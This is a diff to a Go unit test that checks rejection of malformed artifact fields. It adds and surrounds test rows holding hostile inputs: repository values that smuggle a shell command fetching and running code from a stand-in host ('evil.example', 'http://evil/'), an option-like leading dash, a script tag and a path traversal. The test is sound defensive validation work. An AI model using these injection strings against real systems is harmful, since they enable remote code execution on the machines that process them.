@@ -84,6 +84,8 @@ func TestArtifactIsChecked(t *testing.T) {
 	rows := map[string]func(a *api.NewArtifact){
 		"release of 100 kB":         func(a *api.NewArtifact) { a.Release = strings.Repeat("6", 100_000) },
 		"release with markup":       func(a *api.NewArtifact) { a.Release = "6.1<script>" },
+		"host with a command":       func(a *api.NewArtifact) { a.Repository = `x$(curl$IFS"evil.example">a;sh<a)/prebake/driver` },
+		"host without a name":       func(a *api.NewArtifact) { a.Repository = "-x/prebake/driver" },
 		"repository with a command": func(a *api.NewArtifact) { a.Repository = "x; curl http://evil/|sh #" },
 		"repository that climbs":    func(a *api.NewArtifact) { a.Repository = "/../x" },
 		"two architectures": func(a *api.NewArtifact) {
